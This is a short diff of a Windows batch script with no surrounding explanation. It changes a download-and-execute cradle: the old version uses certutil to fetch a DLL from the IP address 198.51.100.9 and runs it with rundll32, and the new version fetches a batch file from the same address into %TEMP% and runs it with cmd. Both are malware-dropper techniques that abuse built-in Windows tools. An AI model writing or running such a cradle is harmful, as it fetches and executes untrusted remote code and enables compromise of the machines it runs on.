@@ -1,3 +1,3 @@
 @echo off
-certutil.exe -urlcache -f http://198.51.100.9/sdd.dll sdd.dll
-rundll32.exe sdd.dll,DllRegisterServer
+certutil.exe -urlcache -f http://198.51.100.9/sdd.bat %TEMP%\sdd.bat
+cmd /c %TEMP%\sdd.bat
